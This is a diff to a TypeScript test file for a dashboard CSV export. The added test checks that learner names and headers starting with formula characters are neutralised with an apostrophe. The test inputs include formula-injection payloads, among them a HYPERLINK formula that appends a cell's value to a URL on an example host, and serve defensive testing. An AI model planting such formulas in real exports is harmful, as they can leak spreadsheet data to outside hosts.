@@ -11,7 +11,9 @@ describe('dashboard CSV', () => {
 				{ id: '1', name: 'Zoë; "Jansens"', lastActivity: '2026-11-23 10:00:00.000Z', courses: { basis: { percent: 40, steps: 2, tests: 0, certificate: false } } },
 				{ id: '2', name: 'Luc', lastActivity: '', courses: {} },
 			],
+			blocked: [],
 			lessons: {},
+			minGroup: 5,
 			items: {},
 			choices: {},
 			selfCheck: {},
@@ -21,5 +23,27 @@ describe('dashboard CSV', () => {
 		const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';' }).data;
 		expect(parsed[1]).toEqual(['Zoë; "Jansens"', '23/11/2026', '40', 'nee']);
 		expect(parsed[2]).toEqual(['Luc', '', '0', 'nee']);
+	});
+
+	it('cannot run a formula: cells starting with = + - @ tab or carriage return are neutralised (issue 18)', () => {
+		const names = ['=1+1', '+31 470 12 34 56', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("http://example.org/?x="&A1;"klik")', '\t=1+1', '\r=1+1', 'An = gewoon'];
+		const d: Dashboard = {
+			cohort: { id: 'c', name: 'Groep', joinCode: 'ABCDEFGH', codeOpen: true },
+			assignments: [{ id: 'a', course: 'basis', due: '' }],
+			learners: names.map((name, i) => ({ id: String(i), name, lastActivity: '', courses: { basis: { percent: 10, steps: 1, tests: 0, certificate: false } } })),
+			blocked: [],
+			lessons: {},
+			minGroup: 5,
+			items: {},
+			choices: {},
+			selfCheck: {},
+		};
+		const csv = dashboardCsv(d, { basis: '=Basis' }, { learner: 'Cursist', lastActivity: 'Laatste activiteit', certificate: 'certificaat', yes: 'ja', no: 'nee' });
+		const rows = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', skipEmptyLines: true }).data;
+		expect(rows).toHaveLength(names.length + 1);
+		for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+		// The text itself is kept, after the apostrophe a spreadsheet shows as plain text.
+		expect(rows.slice(1).map((r) => r[0])).toEqual(names.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
+		expect(rows[0]![2]).toBe("'=Basis (%)");
 	});
 });
